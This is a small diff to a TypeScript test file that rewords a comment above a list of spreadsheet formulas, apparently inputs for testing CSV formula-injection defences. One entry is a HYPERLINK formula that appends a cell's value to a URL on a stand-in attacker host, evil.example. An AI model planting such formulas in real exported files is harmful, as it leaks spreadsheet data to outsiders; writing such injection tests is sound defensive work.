@@ -7,7 +7,7 @@ import { cell } from '../src/db/csv-columns.ts'
 import { CARDS, startWorld, type TestMerchant, type World } from './harness.ts'
 import { readCsv } from './money/csv.ts'
 
-/** What a spreadsheet would work out. */
+/** Text that a spreadsheet would evaluate. */
 const FORMULAS = [
   `=1+1`,
   `=HYPERLINK("https://evil.example?x="&A1,"click")`,
